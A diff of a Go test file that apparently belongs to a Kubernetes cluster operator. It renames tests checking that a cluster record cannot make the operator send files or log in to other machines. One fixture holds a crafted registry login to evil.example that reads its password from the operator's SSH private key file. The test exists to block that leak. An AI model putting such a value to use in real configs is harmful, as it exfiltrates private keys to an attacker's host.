@@ -13,9 +13,9 @@ import (
 	"slipway.dev/slipway/api/v1alpha1"
 )
 
-// TestRecordOfOthers: whoever may write the record must not have the operator's next
-// apply send files, or log in elsewhere.
-func TestRecordOfOthers(t *testing.T) {
+// TestRecord_CannotRedirectLogins: a user who can write the record must not make the operator's next
+// apply send files or log in to other machines.
+func TestRecord_CannotRedirectLogins(t *testing.T) {
 	nodes := []corev1.Node{{}}
 	nodes[0].Name = "cp1"
 	nodes[0].Labels = map[string]string{controlPlaneLabel: ""}
@@ -28,9 +28,10 @@ func TestRecordOfOthers(t *testing.T) {
 		says         []string
 	}{
 		{
-			name:   "registry logins",
-			record: `registry: {auths: [{registry: evil.example, username: x, passwordFrom: {file: /home/op/.ssh/id_ed25519}}, {registry: b.example, caFile: /x}]}`,
-			says:   []string{`"evil.example", "b.example"`},
+			name: "registry logins",
+			record: `registry: {auths: [{registry: evil.example, username: x, passwordFrom: {file: /home/op/.ssh/id_ed25519}}, {registry: ` +
+				`b.example, caFile: /x}]}`,
+			says: []string{`"evil.example", "b.example"`},
 		},
 		{
 			name:   "registries without verification",
@@ -107,9 +108,9 @@ func TestRecordOfOthers(t *testing.T) {
 	}
 }
 
-// TestNothingLocal: no field of a record that names a file or a secret gets into the
+// TestRecord_NamesNoLocalFiles: no field of a record that names a file or a secret gets into the
 // file, also not one that comes later.
-func TestNothingLocal(t *testing.T) {
+func TestRecord_NamesNoLocalFiles(t *testing.T) {
 	var r v1alpha1.Cluster
 	fillValue(reflect.ValueOf(&r.Spec).Elem())
 	r.Spec.Kubernetes.Kubelet.Config = nil
@@ -190,7 +191,7 @@ func listLocalFields(v reflect.Value, path string) (out []string) {
 	return out
 }
 
-func TestRemoteName(t *testing.T) {
+func TestRemoteName_RejectsLocalNames(t *testing.T) {
 	for name, want := range map[string]bool{
 		"node1.example.com": true, "localhosts.example.com": true,
 		"": false, "127.0.0.1": false, "10.0.0.1": false, "::1": false, "localhost": false, "LOCALHOST.": false,
